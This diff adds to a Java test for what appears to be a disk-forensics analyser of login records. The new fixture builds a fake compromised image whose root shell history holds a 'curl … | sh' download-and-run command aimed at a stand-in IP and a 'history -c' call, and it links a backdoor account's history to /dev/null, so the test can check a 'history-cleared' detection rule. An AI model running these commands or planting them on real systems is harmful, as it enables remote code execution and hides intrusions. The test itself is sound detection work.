@@ -68,6 +68,11 @@ class LoginsImageTest {
       auth.append("Mar  1 09:00:10 web-1 sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt update\n");
     }
     Files.writeString(root.resolve("var/log/auth.log"), auth.toString());
+    Files.writeString(root.resolve("root/.bash_history"), compromised ? "id\ncurl -s http://203.0.113.5/x | sh\nhistory -c\n" : "apt update\n");
+    if (compromised) {
+      Files.createDirectories(root.resolve("home/backdoor"));
+      Files.createSymbolicLink(root.resolve("home/backdoor/.bash_history"), Path.of("/dev/null"));
+    }
     try (OutputStream o = new GZIPOutputStream(Files.newOutputStream(root.resolve("var/log/auth.log.2.gz")))) {
       o.write("Feb 20 08:00:00 web-1 sshd[10]: Accepted publickey for admin from 10.0.5.20 port 50000 ssh2\n".getBytes(StandardCharsets.US_ASCII));
     }
@@ -110,6 +115,8 @@ class LoginsImageTest {
     assertThat(f).filteredOn(x -> x.ruleId().equals("login-records-tampered")).singleElement()
         .satisfies(x -> assertThat(x.reason()).contains("lastlog holds a login of admin at 2026-03-01T11:57:00Z"));
     assertThat(r.report().events()).extracting(HostEvent::kind).contains("ssh-failed", "ssh-accepted", "login", "last-login", "user-added");
+    assertThat(f).filteredOn(x -> x.ruleId().equals("history-cleared")).extracting(x -> x.severity() + " " + x.path())
+        .containsExactlyInAnyOrder("medium /root/.bash_history", "high /home/backdoor/.bash_history");
     assertThat(r.report().events()).filteredOn(e -> e.source().contains("auth.log.2.gz")).singleElement()
         .satisfies(e -> assertThat(e.timeUtc()).isEqualTo("2026-02-20T08:00:00Z"));
     assertThat(r.report().authorizedKeys()).filteredOn(k -> k.logins() != null).singleElement()
@@ -155,7 +162,8 @@ class LoginsImageTest {
     Path image = ext4("clean", false);
     DiskAnalysis.Result r = analyseKeeping(image, "LOGIN-3", true);
     assertThat(r.report().findings()).extracting(DiskFinding::ruleId).doesNotContain("ssh-key-login", "login-from-case-address",
-        "password-guessing-then-success", "login-from-unknown-address", "ssh-root-login", "account-added", "login-records-tampered");
+        "password-guessing-then-success", "login-from-unknown-address", "ssh-root-login", "account-added", "login-records-tampered",
+        "history-cleared");
     assertThat(r.report().events()).extracting(HostEvent::kind).contains("ssh-accepted", "sudo", "login", "last-login");
   }
 
